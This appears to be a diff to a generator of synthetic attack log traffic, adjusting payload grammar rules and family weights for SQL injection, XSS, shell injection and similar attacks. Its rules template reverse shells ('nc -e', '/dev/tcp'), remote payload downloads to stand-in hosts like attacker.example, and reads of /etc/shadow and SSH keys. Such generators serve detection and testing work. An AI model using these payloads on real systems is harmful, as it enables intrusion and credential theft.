@@ -10,16 +10,17 @@ _RULES = r"""
 domain: evil.example ¦ «letters».example ¦ «letters».ru ¦ «letters».xyz ¦ x.«letters».cc ¦ «address»
  ¦ attacker.example ¦ «letters»-«letters».com ¦ 0x«hexadecimal» ¦ «letters».oast.example
 link: 3§http://«domain» ¦ 2§https://«domain» ¦ 3§//«domain»
-command: 3§id ¦ 3§ls ¦ 2§ls -la ¦ 2§whoami ¦ 3§cat «file» ¦ uname -a ¦ pwd ¦ ps aux ¦ netstat -an
- ¦ env ¦ ifconfig ¦ ping -c «few» «address» ¦ ping -n «few» «address» ¦ sleep «few» ¦ sleep «few»0
- ¦ dir ¦ dir c:\ ¦ type c:\windows\win.ini ¦ net user ¦ ipconfig /all ¦ systeminfo
- ¦ nslookup «letters».«domain» ¦ curl «link»/«letters» ¦ wget «link»/«letters».sh -O /tmp/«letters»
- ¦ wget «domain»/x ¦ head «file» ¦ nc -e /bin/sh «address» «number»
- ¦ bash -i >& /dev/tcp/«address»/«number» 0>&1 ¦ rm -rf /tmp/«letters» ¦ /bin/ls ¦ /bin/cat «file»
- ¦ /usr/bin/id ¦ /bin/sh -c id ¦ python -c 'import os;os.system("id")' ¦ perl -e 'print «number»'
- ¦ php -r 'phpinfo();' ¦ echo «letters» ¦ echo «number» > /tmp/«letters» ¦ powershell -c iwr «link»
- ¦ c''at «file» ¦ cat$ifs«file» ¦ w\ho\am\i ¦ {cat,«file»} ¦ touch /tmp/«letters»
- ¦ chmod 777 /tmp/«letters» ¦ kill -9 «number» ¦ crontab -l ¦ find / -name «letters» ¦ cmd /c dir
+command: 2§id ¦ 2§ls ¦ 2§ls -la ¦ 2§whoami ¦ 6§cat «file» ¦ 2§/bin/cat «file» ¦ uname -a ¦ pwd
+ ¦ ps aux ¦ netstat -an ¦ env ¦ ifconfig ¦ ping -c «few» «address» ¦ ping -n «few» «address»
+ ¦ sleep «few» ¦ sleep «few»0 ¦ dir ¦ dir c:\ ¦ type c:\windows\win.ini ¦ net user ¦ ipconfig /all
+ ¦ systeminfo ¦ nslookup «letters».«domain» ¦ curl «link»/«letters»
+ ¦ wget «link»/«letters».sh -O /tmp/«letters» ¦ wget «domain»/x ¦ head «file»
+ ¦ nc -e /bin/sh «address» «number» ¦ bash -i >& /dev/tcp/«address»/«number» 0>&1
+ ¦ rm -rf /tmp/«letters» ¦ /bin/ls ¦ /bin/cat «file» ¦ /usr/bin/id ¦ /bin/sh -c id
+ ¦ python -c 'import os;os.system("id")' ¦ perl -e 'print «number»' ¦ php -r 'phpinfo();'
+ ¦ echo «letters» ¦ echo «number» > /tmp/«letters» ¦ powershell -c iwr «link» ¦ c''at «file»
+ ¦ cat$ifs«file» ¦ w\ho\am\i ¦ {cat,«file»} ¦ touch /tmp/«letters» ¦ chmod 777 /tmp/«letters»
+ ¦ kill -9 «number» ¦ crontab -l ¦ find / -name «letters» ¦ cmd /c dir
 file: 4§/etc/passwd ¦ /etc/shadow ¦ /etc/hosts ¦ /proc/self/environ ¦ /etc/issue ¦ .env
  ¦ /var/log/auth.log ¦ ~/.ssh/id_rsa ¦ config.php
 shell: 4§«separator»«command» ¦ 2§«separator» «command» ¦ 2§«separator»«command»«tail» ¦ `«command»`
@@ -180,14 +181,14 @@ def _alone(symbol: str) -> Callable[[Random, str], str]:
 
 # Family: how to draw one, its share of the attacks when the log starts and when it ends.
 FAMILIES: dict[str, tuple[Callable[[Random, str], str], float, float]] = {
-    "sql": (injection, 0.53, 0.40),
-    "xss": (_other("script", "markup", "outbreak"), 0.16, 0.13),
-    "shell": (_other("shell"), 0.11, 0.10),
+    "sql": (injection, 0.55, 0.42),
+    "xss": (_other("script", "markup", "outbreak"), 0.16, 0.14),
+    "shell": (_other("shell"), 0.09, 0.08),
     "traversal": (_alone("traversal"), 0.11, 0.10),
     "nosql": (_alone("nosql"), 0.017, 0.05),
     "ldap": (_alone("ldap"), 0.014, 0.04),
     "include": (_other("include"), 0.014, 0.045),
-    "template": (_other("template"), 0.016, 0.05),
+    "template": (_other("template"), 0.016, 0.04),
     "redirect": (_alone("redirect"), 0.016, 0.045),
     "header": (_alone("header"), 0.013, 0.04),
 }
